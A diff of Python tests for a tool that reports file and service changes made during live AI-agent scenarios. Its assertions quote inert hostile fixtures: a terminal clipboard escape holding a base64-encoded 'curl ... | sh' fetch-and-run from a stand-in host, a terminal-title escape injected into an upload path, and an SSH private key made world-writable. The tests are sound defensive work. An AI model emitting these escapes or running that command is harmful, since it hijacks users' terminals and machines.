@@ -86,8 +86,9 @@ async def test_each_live_step_shows_what_it_changed_inert(live_store: Store, mon
     assert "compared with what the scenario laid out" in first
     assert f"+ {NOTE_SHOWN}  file 0644, {len(HOSTILE.encode()):,} bytes" in first
     assert "\\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==" in first, "the note's text head, inert"
-    for not_the_agents in (".git", "~/app ", "~/.ssh ", "config.ini", "Processes", "Service events", "id_ed25519"):
-        assert not_the_agents not in first, not_the_agents
+    the_worlds = ("+ ~ ", ".git", "~/app ", "~/.ssh ", "config.ini", "id_ed25519", "Processes", "Service events")
+    for laid_out in the_worlds:
+        assert laid_out not in first, laid_out
 
     assert "~ ~/.ssh/id_ed25519  mode 0600 → 0777" in second
     assert "#1 paste upload /api\\x1b]0;pwned\\x07  status 200" in second
@@ -152,6 +153,11 @@ def test_a_changed_text_file_shows_a_diff_of_its_heads() -> None:
     binary = FileEvidence(path=LIVE_CONFIG, kind="file", mode="0644", size=4, sha256="b" * 64)
     shown = _text(LiveEvidence(files=[binary]), LiveEvidence(files=[file_evidence(LIVE_CONFIG, "abcd")]))
     assert "~ ~/app/config.ini  content changed" in shown
+    # A file the host could not hash is compared by its head.
+    unhashed = file_evidence(LIVE_CONFIG, "abcd").model_copy(update={"sha256": None})
+    assert not live_changes(LiveEvidence(files=[unhashed]), LiveEvidence(files=[unhashed])).changed
+    edited = unhashed.model_copy(update={"text": "abce"})
+    assert live_changes(LiveEvidence(files=[edited]), LiveEvidence(files=[unhashed])).changed
 
 
 def test_a_text_head_is_compared_only_as_far_as_it_goes() -> None:
